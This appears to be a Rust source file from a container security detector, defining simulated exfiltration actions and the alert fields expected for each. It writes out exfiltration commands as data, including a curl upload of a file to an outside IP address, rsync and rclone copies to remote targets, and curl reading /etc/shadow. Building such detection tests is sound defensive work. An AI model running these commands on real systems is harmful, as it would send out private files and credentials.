//! How it leaves.

use kestrel_proto::v1::Priority::{Critical, Notice, Warning};

use super::act::{
    Act,
    Place::{Exec, Pod, Terminal},
};

pub(crate) const ACTS: &[Act] = &[
    Act::new(
        "Files copied out of a container",
        Notice,
        Exec,
        "/bin/tar cf - /srv",
        &["process=tar", "command=tar cf - /srv"],
    ),
    Act::new(
        "Remote copy started in a container",
        Notice,
        Pod,
        "nothing rsync -a /srv gate:",
        &["process=rsync"],
    ),
    Act::new(
        "File sent with a downloader",
        Warning,
        Pod,
        "nothing curl -T /srv/report http://203.0.113.7/",
        &["process=curl exe=/bin/nothing command=curl -T /srv/report"],
    ),
    Act::new(
        "File sent to storage of a cloud",
        Notice,
        Terminal,
        "nothing rclone copy /srv drop:",
        &["process=rclone exe=/bin/nothing command=rclone copy /srv drop:"],
    ),
    Act::new(
        "Sensitive file opened by a program that sends",
        Critical,
        Pod,
        "as curl read /etc/shadow",
        &["file=/etc/shadow process=curl"],
    ),
    Act::new(
        "Connection from a container to a drop of files",
        Notice,
        Pod,
        "as client knock 203.0.113.20:443",
        &["name=pastebin.com", "203.0.113.20:443 process=client"],
    ),
];
